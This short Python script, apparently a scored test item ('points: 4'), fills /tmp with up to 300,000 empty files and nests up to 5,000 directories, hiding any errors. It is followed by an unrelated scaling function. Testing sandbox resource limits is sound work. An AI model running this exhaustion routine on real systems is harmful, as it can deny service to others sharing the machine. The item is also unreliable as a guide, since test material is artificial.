# Makes files without contents and folders within folders for as long as it may.
# points: 4

# %% first
import os

made = 0
try:
    while made < 300_000:
        open(f"/tmp/{made}", "w").close()
        made += 1
except OSError:
    pass
try:
    os.chdir("/tmp")
    for _ in range(5000):
        os.mkdir("deeper")
        os.chdir("deeper")
except OSError:
    pass

# %% scale
def scale(x, factor=2.0):
    return x * factor
